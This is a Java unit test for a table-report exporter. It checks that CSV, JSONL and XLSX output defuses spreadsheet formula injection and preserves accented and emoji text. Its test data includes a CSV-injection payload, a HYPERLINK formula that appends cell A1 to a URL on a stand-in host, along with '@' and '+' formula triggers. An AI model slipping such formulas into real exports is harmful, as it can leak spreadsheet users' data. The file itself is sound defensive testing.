package io.tablesteward.model.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.tablesteward.model.Progress;
import java.nio.ByteBuffer;
import java.nio.charset.CodingErrorAction;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Group M of the cases from public bug reports, to the letter. */
class ReportCasesTest {
    private static final String LINK = "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")";
    private static final String WORDS = "Prévisions révisées \uD83D\uDE80 e\u0301 \uD83D\uDC69\u200D\uD83D\uDC67";

    @TempDir
    private Path folder;

    // Case 110
    @Test
    void noTextRunsAsAFormulaNumbersStayNumbersAndJsonIsNotChanged() throws Exception {
        LoggedTable table = LoggedTable.of(folder, "orders", Map.of("-x", "@SUM(1)"));
        ObjectNode info =
                JsonNodeFactory.instance.objectNode().put("userMetadata", LINK).put("userName", "+1");
        info.put("readVersion", -5).putObject("operationMetrics").put("numFiles", -5);
        table.commit(info.put("operation", "WRITE"));
        Report history = Reports.utc(ReportPreset.HISTORY, table);
        Report coverage = Reports.utc(ReportPreset.COVERAGE, table);

        Map<String, String> commit = csv(history).get(0);
        assertThat(commit)
                .containsEntry("userMetadata", "'" + LINK)
                .containsEntry("userName", "'+1")
                .containsEntry("readVersion", "-5")
                .containsEntry("operationMetrics", "{\"numFiles\":\"-5\"}");
        Map<String, String> column = csv(coverage).get(1);
        assertThat(column).containsEntry("comment", "'@SUM(1)").containsEntry("column", "`-x`");

        JsonNode row = new ObjectMapper()
                .readTree(Reports.written(ReportForm.JSONL, history, folder)
                        .lines()
                        .toList()
                        .get(1));
        assertThat(row.get("userMetadata").textValue()).isEqualTo(LINK);
        assertThat(row.get("userName").textValue()).isEqualTo("+1");
        assertThat(row.get("readVersion").intValue()).isEqualTo(-5);
        assertThat(Reports.written(ReportForm.JSONL, coverage, folder)).contains("\"comment\":\"@SUM(1)\"");

        PlainXlsx book = new PlainXlsx(Reports.file(ReportForm.XLSX, history, folder));
        assertThat(book.formulas()).isEmpty();
        assertThat(book.rows(1).get(1).values())
                .containsValue(new PlainXlsx.Value("inlineStr", "2", LINK))
                .containsValue(new PlainXlsx.Value("inlineStr", "2", "+1"))
                .containsValue(new PlainXlsx.Value("", "0", "-5"));
    }

    // Case 112
    @Test
    void accentsAndEmojiAreUtf8WithAMarkOnlyWhereItIsAskedFor() throws Exception {
        LoggedTable table =
                LoggedTable.of(folder, "orders", Map.of("id", "clé")).noted(WORDS);
        Report history = Reports.utc(ReportPreset.HISTORY, table);
        Path plain = Reports.file(ReportForm.CSV, history, folder);
        Path marked = folder.resolve("marked.csv");
        ReportForm.CSV.write(history, marked, true, Progress.unwatched());

        byte[] bytes = Files.readAllBytes(plain);
        byte[] withMark = Files.readAllBytes(marked);
        assertThat(withMark).startsWith(0xEF, 0xBB, 0xBF).endsWith(bytes).hasSize(bytes.length + 3);
        assertThat(StandardCharsets.UTF_8
                        .newDecoder()
                        .onMalformedInput(CodingErrorAction.REPORT)
                        .decode(ByteBuffer.wrap(bytes))
                        .toString())
                .contains(WORDS);
        assertThat(csv(history).get(0)).containsEntry("userMetadata", WORDS);
        assertThat(new PlainXlsx(Reports.file(ReportForm.XLSX, history, folder))
                        .rows(1)
                        .get(1)
                        .values())
                .as("a spreadsheet needs no mark there")
                .containsValue(new PlainXlsx.Value("inlineStr", "2", WORDS));
    }

    /** The rows by the names of the columns. */
    private List<Map<String, String>> csv(Report report) throws Exception {
        List<List<String>> lines = PlainCsv.parse(Reports.written(ReportForm.CSV, report, folder));
        List<Map<String, String>> rows = new ArrayList<>();
        for (List<String> line : lines.subList(1, lines.size())) {
            Map<String, String> row = new LinkedHashMap<>();
            for (int i = 0; i < line.size(); i++) {
                row.put(lines.get(0).get(i), line.get(i));
            }
            rows.add(row);
        }
        return rows;
    }
}
